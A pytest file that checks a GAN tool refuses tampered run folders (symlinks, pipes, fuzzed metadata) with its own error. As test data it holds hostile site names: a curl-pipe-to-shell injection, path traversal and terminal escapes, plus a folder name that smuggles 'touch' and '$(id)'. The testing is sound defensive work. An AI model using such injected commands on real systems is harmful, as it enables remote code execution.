"""Run folders that somebody else hands over: read, or refused by one of our errors.

Mutations start from a real run. Every command that reads a run is asked, as a person would type it.
"""

import html
import json
import os
import re
import shlex
import shutil
import threading
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from asyndgan.errors import RunError
from asyndgan.judging.asked import read_evaluation
from asyndgan.runs import RunFolder
from asyndgan.runs.train import train
from spoiling import asked, changes, fuzz, spoiled

rarely = settings(fuzz, max_examples=settings.default.max_examples // 4)  # each takes a second


@pytest.fixture(scope="module")
def run(tiny, phantoms, tmp_path_factory):
    recipe = tiny("image.size=32", "training.steps=2", "training.hold_out=0.2")
    return train(recipe, phantoms, tmp_path_factory.mktemp("run") / "run").path


COMMANDS = ("report", "generate", "generate of masks", "augment", "train")


def ask(name: str, run: Path, phantoms: dict[str, Path], out: Path) -> str:
    """What a command says that reads a run and takes no time to speak of."""
    shutil.rmtree(out, ignore_errors=True)
    sites = [word for name, data in phantoms.items() for word in ("--site", f"{name}={data}")]
    first = next(iter(phantoms.values()))
    resumed = ["--resume", "--out", run, *sites]
    words = (
        ("report", run, "--out", out / "page.html"),
        ("generate", run, "--out", out / "painted"),
        ("generate", run, "--out", out / "others", "--masks", first),
        ("augment", run, "--site", first, "--out", out / "augmented"),
        ("train", run / "recipe.toml", *resumed),
    )
    return asked(*words[COMMANDS.index(name)])


def test_a_run_as_it_was_is_read_by_every_command(run, phantoms, tmp_path):
    mine = spoiled(run, tmp_path / "copy", "run.json", lambda facts: facts)
    said = [ask(name, mine, phantoms, tmp_path / name) for name in COMMANDS]
    painted = [
        re.search(r"^(\d+) (?:synthetic|real|cases)", text, re.MULTILINE) for text in said[1:4]
    ]
    assert [found and found[1] for found in painted] == ["30", "36", "12"]
    assert (tmp_path / "report" / "page.html").exists()


@pytest.mark.parametrize("name", COMMANDS[1:])
def test_a_run_with_a_size_that_its_recipe_lacks_is_refused(run, phantoms, tmp_path, name):
    mine = spoiled(run, tmp_path / "copy", "run.json", lambda facts: facts | {"space": [32, 7]})
    assert "run.json says images of (32, 7)" in ask(name, mine, phantoms, tmp_path / "out")


@fuzz
@given(changes())
def test_what_a_stranger_says_of_a_sites_evaluation_is_read_or_refused_by_our_error(
    tmp_path, change
):
    score = {"name": "lesion", "patients": 9, "score": 0.5, "low": 0.4, "high": 0.6}
    told = {"generator_sha256": "ab", "set_sha256": "cd", "steps": 3, "scores": [score, score]}
    (tmp_path / "evaluation.json").write_text(json.dumps(change(told)))
    with suppress(RunError):
        assert str(read_evaluation(tmp_path)).isprintable()


@rarely
@given(changes(), st.sampled_from(COMMANDS))
def test_what_a_stranger_says_of_a_run_is_read_or_refused_by_our_error(
    run, phantoms, tmp_path, change, name
):
    mine = spoiled(run, tmp_path / "copy", "run.json", change)
    ask(name, mine, phantoms, tmp_path / "out")


@rarely
@given(changes(), st.integers(0, 3))
def test_what_a_stranger_says_of_a_step_is_read_or_refused_by_our_error(
    run, phantoms, tmp_path, change, line
):
    mine = spoiled(run, tmp_path / "copy", "metrics.jsonl", change, line)
    shutil.rmtree(mine / "masks")  # what takes time is to paint
    asked("report", mine, "--out", tmp_path / "page.html")


def within(folder: Path) -> list[Path]:
    """Every folder of a run, and one file of each, relative to it."""
    every = [path.relative_to(folder) for path in folder.rglob("*") if path.name != ".held"]
    files = {path.parent: path for path in every if (folder / path).is_file()}
    return sorted({*files.values(), *(path for path in every if (folder / path).is_dir())})


def test_a_run_with_a_link_anywhere_is_refused_and_nothing_behind_it_read(run, phantoms, tmp_path):
    mine, twin, out = tmp_path / "run", tmp_path / "twin", tmp_path / "out"
    shutil.copytree(run, twin)
    commands = [
        ("report", mine, "--out", out / "page.html"), ("generate", mine, "--out", out / "painted"),
        ("augment", mine, "--site", phantoms["north"], "--out", out / "more"),
    ]  # fmt: skip
    found = [path for path in within(run) if path.parts[0] != "tensorboard"]
    assert len(found) > 5
    for number, path in enumerate(found):
        shutil.rmtree(mine, ignore_errors=True)
        shutil.copytree(run, mine)
        shutil.rmtree(mine / path) if (mine / path).is_dir() else (mine / path).unlink()
        (mine / path).symlink_to(twin / path)
        for words in commands if number == 0 else commands[:1]:
            assert f"{path.name} is a link, and a run folder may hold none" in asked(*words)
        assert [*out.rglob("*")] == []


@pytest.mark.parametrize("file", ["metrics.jsonl", "masks"])
def test_a_run_with_a_pipe_or_a_folder_for_a_file_is_refused_at_once(run, tmp_path, file):
    mine = spoiled(run, tmp_path / "run", "run.json", lambda facts: facts)
    place = min((mine / file / "labelsTr").iterdir()) if file == "masks" else mine / file
    for make in (os.mkfifo, os.mkdir):
        place.unlink()
        make(place)
        said: list[str] = []
        words = ("report", mine, "--out", tmp_path / "page.html")
        thread = threading.Thread(
            target=lambda to=said, of=words: to.append(asked(*of)), daemon=True
        )
        thread.start()
        thread.join(60)
        assert said and (place.name in said[0] or "no run folder" in said[0])


HOSTILE_NAMES = ["\x1b]0;owned\x07", "a\u202eb", "x; curl http://x | sh", "../../../etc", ""]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=ascii)
def test_a_sites_name_that_is_no_word_is_refused_and_shown_in_printable_letters(
    run, tmp_path, name
):
    def renamed(facts):
        facts["sites"][name] = facts["sites"].pop("north")
        return facts

    mine = spoiled(run, tmp_path / "run", "run.json", renamed)
    said = asked("report", mine, "--out", tmp_path / "page.html")
    assert "run.json is not what a run writes:\n  sites." in said
    assert "\x1b" not in said and "\u202e" not in said
    with pytest.raises(RunError, match="is not what a run writes"):
        RunFolder(mine).facts()


def test_a_command_on_the_page_is_one_command_whatever_the_folder_is_called(run, tmp_path):
    mine = spoiled(run, tmp_path / "r; touch owned #$(id)", "run.json", lambda facts: facts)
    asked("report", mine, "--out", tmp_path / "page.html")
    page = html.unescape((tmp_path / "page.html").read_text("utf-8"))
    commands = re.findall(r">(asyndgan (?:audit|evaluate) [^<]*)<", page)
    assert len(commands) == 2
    for command in commands:
        assert shlex.split(command)[2] == str(mine)
        assert "touch" not in shlex.split(command)
